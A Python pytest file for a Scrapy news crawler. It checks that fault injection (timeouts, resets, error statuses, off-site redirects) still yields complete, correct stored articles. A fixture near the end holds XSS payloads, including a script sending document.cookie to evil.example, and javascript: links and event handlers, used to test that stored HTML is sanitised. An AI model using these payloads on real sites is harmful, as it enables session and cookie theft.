"""The site misbehaves; the crawl still ends with every article, and never leaves the site.

The mirror injects every fault ``fixtures.server`` knows (``FAULT_KINDS``) into a fifth of
the post pages and into one category page, each a few times before the real page. What
outlasts the crawler's retries (200s that are not the page, a redirect off the site) is a
failed download, which the next run fetches again; after it the database holds the rows
of an undisturbed crawl of the same site. A page that errs for good is a failed download
that counts against FINEWS_MAX_ERRORS (``tests/test_cron.py``,
``test_errors_over_the_threshold_fail_the_run``, checks the count and the exit status)
and is fetched again by the next run, as is a page answered 404 (not an error). A hostile
post body is stored sanitised with its text, a 1 MB paragraph whole.

docs/reliability.md maps each fault to what the crawler does and to its test.
"""

from __future__ import annotations

import re
import shutil
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, text

from crawler import settings as project_settings
from crawler.commands.cron import FAILED, OK
from crawler.items import DOWNLOAD_FAILED
from crawler.pages.post import parse_post
from fixtures.server import (
    FAULT_KINDS,
    Fault,
    MirrorServer,
    MirrorSite,
    plan_faults,
    synthetic_files,
)
from schema.models import Article, Reject
from tests.crawling import expected_from, post_paths, run_cron, scalars

pytestmark = pytest.mark.slow

RETRIES = project_settings.RETRY_TIMES  # each page: the first try and this many retries
# Stalls must outlast the download timeout; the back-off after 429/503 stays short.
FAULTY_RUN = ("-s", "DOWNLOAD_TIMEOUT=2", "-s", "FINEWS_BACKOFF_MAX_DELAY=0.25")
STALL_SECONDS = 5.0
# Faults that end within the run: retried (RetryMiddleware, get_retry_request) or, for the
# alias, followed to the mirror. Redirects off the site are never followed nor retried.
WITHIN_RUN = tuple(kind for kind in FAULT_KINDS if kind != "offsite")
STUBBORN = ("empty", "busy") * 2  # more times than the retries: the next run stores them
CATEGORY = "/category/21shijijingjibaodao%2021caijingAPP.html"  # a slug with a space

# What two crawls of one mirror must agree on: everything but times and run ids. Failed
# downloads leave rejects rows of their own (history); they are compared apart.
COMPARED = {
    "articles": "info_code, title, published_at, category, outlet, source, digest, paragraphs, "
    "body_text, body_html, images, source_url, url, content_hash, revision",
    "article_categories": "info_code, category, url, content_hash, digest, stocks",
    "categories": "slug, outlet",
    "stock_mentions": "info_code, market, code, symbol, name, kind, is_primary, mentions",
    "rejects": "url, info_code, reason, detail, excerpt",
}


def data_rows(db_url: str) -> dict[str, list[str]]:
    rows = {}
    for table, columns in COMPARED.items():
        query = text(f"SELECT {columns} FROM {table}")
        if table == "rejects":
            query = text(f"{query} WHERE reason != :failed").bindparams(failed=DOWNLOAD_FAILED)
        rows[table] = sorted(repr(tuple(row)) for row in scalars(db_url, query))
    return rows


def failed_downloads(db_url: str, base: str) -> list[tuple[str, str]]:
    """(path, detail) of each failed-download reject, in path order."""
    query = select(Reject.url, Reject.detail).where(Reject.reason == DOWNLOAD_FAILED)
    return sorted((url.removeprefix(base.rstrip("/")), detail) for url, detail in
                  scalars(db_url, query))  # fmt: skip


def retry_reasons(stderr: str) -> dict[str, int]:
    """``retry/reason_count/*`` of Scrapy's stats dump, by status or exception class name
    (``Crawl.stats`` leaves out keys with spaces, as ``500 Internal Server Error``)."""
    dump = stderr.rpartition("Dumping Scrapy stats:")[2]
    found = re.findall(r"'retry/reason_count/(?:[\w.]+\.)?(\w+)[^']*': (\d+)", dump)
    return {reason: int(count) for reason, count in found}


def stored(db_url: str) -> set[str]:
    return {code for (code,) in scalars(db_url, select(Article.info_code))}


def info_code(site: MirrorSite, path: str) -> str | None:
    """The infoCode of the post file a page was rendered from."""
    (post,) = [post for post in site.manifest.posts if post.path == path]
    return parse_post(site.source(post.source), "file:///" + post.source).info_code


def kind_count(plan: dict[str, list[Fault]], *kinds: str) -> int:
    """How many times faults of these kinds are given, over every path of a plan."""
    return sum(len(queue) for queue in plan.values() if queue[0].kind in kinds)


def migrated_copy(template: Path, path: Path) -> str:
    shutil.copyfile(template, path)
    return f"sqlite:///{path}"


def test_a_faulty_site_ends_with_the_rows_of_an_undisturbed_crawl(
    tmp_path: Path, sqlite_url: str, sqlite_template: Path
):
    site = MirrorSite(tmp_path / "site", synthetic_files(270, seed=41, broken=0.02))
    site.build()
    posts = sorted(post.path for post in site.manifest.posts)
    assert len(posts) >= 250 and CATEGORY in site.manifest.pages
    expected = expected_from(site)
    calm_url = migrated_copy(sqlite_template, tmp_path / "undisturbed.db")
    lock = tmp_path / "crawl.lock"

    transient = plan_faults(posts, seed=5, share=0.21, kinds=WITHIN_RUN, times=(1, RETRIES))
    rest = [path for path in posts if path not in transient]
    stubborn = plan_faults(rest, seed=6, share=0, kinds=STUBBORN, times=(RETRIES + 1, RETRIES + 2))
    rest = [path for path in rest if path not in stubborn]
    offsite = plan_faults(rest, seed=7, share=0, kinds=("offsite",) * 2, times=(1, 1))
    assert len(transient) >= 0.2 * len(posts)
    plans = [transient, stubborn, offsite]
    assert {queue[0].kind for plan in plans for queue in plan.values()} == set(FAULT_KINDS)
    failing = sorted({**stubborn, **offsite})  # the pages the first run cannot get

    with MirrorServer(site.root) as mirror, MirrorServer(site.root, host="127.0.0.2") as decoy:
        calm = run_cron(calm_url, mirror.url, tmp_path / "calm.lock")
        assert calm.returncode == OK, calm.stderr[-3000:]
        assert stored(calm_url) == set(expected.articles)

        mirror.clear()
        mirror.offsite, mirror.stall = decoy.url, STALL_SECONDS
        for plan in plans:
            mirror.add_answers(plan)
        mirror.add_answers({CATEGORY: [Fault("502"), Fault("truncated")]})
        first = run_cron(sqlite_url, mirror.url, lock, *FAULTY_RUN)
        assert first.returncode == OK, first.stderr[-3000:]
        assert decoy.paths(None) == [], "nothing reached another host"
        asked = Counter(mirror.paths(None))
        # Every fault was given, each path asked for until it answered (or retries ran out).
        assert {path: asked[path] for path in transient} == {
            path: len(queue) + 1 for path, queue in transient.items()
        }
        assert asked[CATEGORY] == 3
        assert {path: asked[path] for path in failing} == {
            **{path: RETRIES + 1 for path in stubborn}, **dict.fromkeys(offsite, 1),
        }  # fmt: skip
        left = {path: len(queue) - RETRIES - 1 for path, queue in stubborn.items()}
        assert mirror.pending() == {path: [stubborn[path][0]] * n for path, n in left.items() if n}
        stats = first.stats
        assert stats["finews/failed/post"] == len(failing)
        assert stats["log_count/ERROR"] == len(failing), "one error per lost page"
        assert "finews/failed/category" not in stats
        assert stats["finews/offsite"] == len(offsite)
        assert stats["retry/max_reached"] == len(stubborn)
        assert stats["downloader/response_status_count/301"] == kind_count(transient, "alias")
        assert stats["downloader/response_status_count/302"] == len(offsite)
        retried = retry_reasons(first.stderr)
        # Twisted itself retries a request once if a kept-alive connection is reset.
        resets = retried.pop("DownloadFailedError", 0)
        assert resets <= kind_count(transient, "reset", "reset-headers")
        assert retried == {
            "500": kind_count(transient, "500"),
            "502": kind_count(transient, "502") + 1,  # and the category page's
            "503": kind_count(transient, "503"),
            "429": kind_count(transient, "429", "429-bare"),
            "not_a_post_page": kind_count(transient, "empty", "busy") + RETRIES * len(stubborn),
            "DownloadTimeoutError": kind_count(transient, "stall"),
            "ResponseDataLossError": kind_count(transient, "truncated") + 1,  # the category's
        }
        assert stats["finews/backoff"] == kind_count(transient, "429", "429-bare", "503")
        lost = {info_code(site, path) for path in failing}
        assert stored(sqlite_url) == set(expected.articles) - lost
        assert [path for path, _ in failed_downloads(sqlite_url, mirror.url)] == failing

        mirror.clear()
        second = run_cron(sqlite_url, mirror.url, lock, *FAULTY_RUN)
        assert second.returncode == OK, second.stderr[-3000:]
        assert Counter(post_paths(mirror.paths(None))) == {
            path: 1 + left.get(path, 0) for path in failing
        }, "only the failed downloads are fetched again"
        assert mirror.pending() == {}
        assert decoy.paths(None) == []

    assert stored(sqlite_url) == set(expected.articles)
    assert data_rows(sqlite_url) == data_rows(calm_url)
    assert failed_downloads(calm_url, mirror.url) == []


def test_a_page_that_errs_for_good_is_a_failed_download_fetched_again_next_run(
    tmp_path: Path, sqlite_url: str
):
    site = MirrorSite(tmp_path / "site", synthetic_files(12, seed=43))
    site.build()
    posts = sorted(post.path for post in site.manifest.posts)
    broken = plan_faults(posts, seed=3, share=0, kinds=("500",) * 3, permanent=1.0)
    gone = next(path for path in posts if path not in broken)  # 404: left the site, once
    lock = tmp_path / "crawl.lock"
    with MirrorServer(site.root) as mirror:
        mirror.add_answers(broken)
        mirror.add_answers({gone: [(404, b"Not Found", {})]})
        first = run_cron(sqlite_url, mirror.url, lock, "-s", "FINEWS_MAX_ERRORS=2")
        assert first.returncode == FAILED, first.stderr[-3000:]
        assert "3 errors, more than FINEWS_MAX_ERRORS=2" in first.verdict, "a 404 is none"
        assert Counter(post_paths(mirror.paths(500))) == dict.fromkeys(broken, RETRIES + 1)
        assert post_paths(mirror.paths(404)) == [gone], "never retried within the run"
        assert (first.stats["finews/failed/post"], first.stats["finews/missing/post"]) == (3, 1)
        assert failed_downloads(sqlite_url, mirror.url) == sorted(
            [(path, "HTTP 500") for path in broken] + [(gone, "HTTP 404")]
        )

        mirror.clear()
        mirror.answers.clear()  # the site is mended
        second = run_cron(sqlite_url, mirror.url, lock)
        assert second.returncode == OK, second.stderr[-3000:]
        assert sorted(post_paths(mirror.paths(None))) == sorted([*broken, gone])
    assert stored(sqlite_url) == set(expected_from(site).articles)


def test_listing_pages_served_as_error_pages_are_retried(tmp_path: Path, sqlite_url: str):
    site = MirrorSite(tmp_path / "site", synthetic_files(30, seed=21))
    site.build()
    with MirrorServer(site.root) as mirror:
        mirror.add_answers({"/": [Fault("empty")], "/category/emnews.html": [Fault("busy")]})
        crawl = run_cron(sqlite_url, mirror.url, tmp_path / "crawl.lock")
        asked = Counter(mirror.paths(None))
    assert crawl.returncode == OK, crawl.stderr[-3000:]
    assert (asked["/"], asked["/category/emnews.html"]) == (2, 2), "retried once each"
    assert stored(sqlite_url) == set(expected_from(site).articles)


# -- hostile bodies ---------------------------------------------------------------------------

HOSTILE = """<p>第一段正文<script>alert("p")</script>继续。</p>
<script>document.location = "https://evil.example/?" + document.cookie</script>
<p onclick="alert(1)" onmouseover="steal()">点击事件段落。</p>
<iframe src="https://evil.example/frame" onload="alert(2)"></iframe>
<p><a href="javascript:alert(3)">恶意链接文字</a>之后。</p>
<p><a href=" JaVaScRiPt:alert(4)" onfocus="x()">大小写链接</a>。</p>
<p><img src="https://dfscdn.dfcfw.com/download/ok.jpg" onerror="alert(5)"></p>
<p><a href="data:text/html;base64,PHNjcmlwdD4=">数据链接</a>。</p>
<div style="background:url(javascript:alert(6))"><object data="https://evil.example/x.swf">\
</object><embed src="https://evil.example/y.swf"><form action="javascript:alert(7)">\
<input onfocus="alert(8)" value="v"></form>表单旁文字。</div>
<svg onload="alert(9)"><circle r="1"/></svg>
"""
HOSTILE_TEXT = ["第一段正文继续。", "点击事件段落。", "恶意链接文字之后。", "大小写链接。",
                "数据链接。", "表单旁文字。"]  # fmt: skip
# URL fields: an image and a link line with a javascript: URL.
HOSTILE_URLS = '<p><img src="javascript:alert(10)" alt="坏图"></p>\n'
JS_LINK_LINE = '<p><a href="javascript:alert(11)">javascript:alert(11)</a></p>'


def big_paragraph(size: int = 1 << 20) -> str:
    """At least ``size`` bytes of UTF-8 article text, no whitespace to normalise."""
    sentences, length, n = [], 0, 0
    while length < size:
        sentence = f"第{n}句：沪深两市成交额持续放大，北向资金净流入。"
        sentences.append(sentence)
        length += len(sentence.encode())
        n += 1
    return "".join(sentences)


BIG = big_paragraph()


def hostile_post(data: bytes) -> bytes:
    """A synthetic post with the hostile markup and the big paragraph before its source
    line, and a javascript: link in place of its link line."""
    body = data.decode("utf-8-sig")
    source_line = '<p class="em_media">'
    assert source_line in body
    body = body.replace(source_line, f"{HOSTILE}{HOSTILE_URLS}<p>{BIG}</p>\n{source_line}", 1)
    body, found = re.subn(r"(?m)^<http://finews\.zning\.xyz/[^>]+>$", JS_LINK_LINE, body)
    assert found == 1
    return body.encode()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> dict[str, Any]:
    """The stored row of a hostile post, from one crawl of a small site that has it."""
    tmp = tmp_path_factory.mktemp("hostile")
    files = synthetic_files(6, seed=47)
    label, name, data = files[0]
    files[0] = (label, name, hostile_post(data))
    site = MirrorSite(tmp / "site", files)
    site.build()
    (path,) = [post.path for post in site.manifest.posts if post.source == label]
    db_url = migrated_copy(sqlite_template, tmp / "finews.db")
    with MirrorServer(site.root) as mirror:
        crawl = run_cron(db_url, mirror.url, tmp / "crawl.lock")
        url = mirror.url.rstrip("/") + path
    assert crawl.returncode == OK, crawl.stderr[-3000:]
    assert crawl.stats["finews/stored"] == len(files)
    # Without its link line the infoCode comes from the page's URL.
    query = select(Article.info_code, Article.body_html, Article.paragraphs, Article.body_text,
                   Article.images, Article.source_url).where(Article.url == url)  # fmt: skip
    (row,) = scalars(db_url, query)
    assert row.info_code == "NW" + name.removesuffix(".md").rsplit("-NW", 1)[1]
    return dict(row._mapping)


ON_ATTRIBUTE = re.compile(r"<[^>]*\son[a-z]+\s*=", re.I)


def test_a_hostile_body_is_stored_sanitised_with_its_text(hostile):
    html = hostile["body_html"]
    for bad in ("<script", "<iframe", "<object", "<embed", "<form", "<input", "<svg",
                "javascript:", "data:text", "style=", "evil.example"):  # fmt: skip
        assert bad not in html.lower(), bad
    assert not ON_ATTRIBUTE.search(html)
    assert '<img src="https://dfscdn.dfcfw.com/download/ok.jpg">' in html
    paragraphs = hostile["paragraphs"]
    start = paragraphs.index(HOSTILE_TEXT[0])
    assert paragraphs[start : start + len(HOSTILE_TEXT) + 1] == [*HOSTILE_TEXT, BIG]
    assert not any("alert" in p or "document." in p for p in paragraphs)


def test_a_1_mb_paragraph_is_stored_whole(hostile):
    assert len(BIG.encode()) >= 1 << 20
    assert BIG in hostile["paragraphs"]
    assert BIG in hostile["body_text"].split("\n")
    assert f"<p>{BIG}</p>" in hostile["body_html"]


def test_no_javascript_url_is_stored_in_url_fields(hostile):
    assert hostile["images"] == ["https://dfscdn.dfcfw.com/download/ok.jpg"]
    assert hostile["source_url"] is None
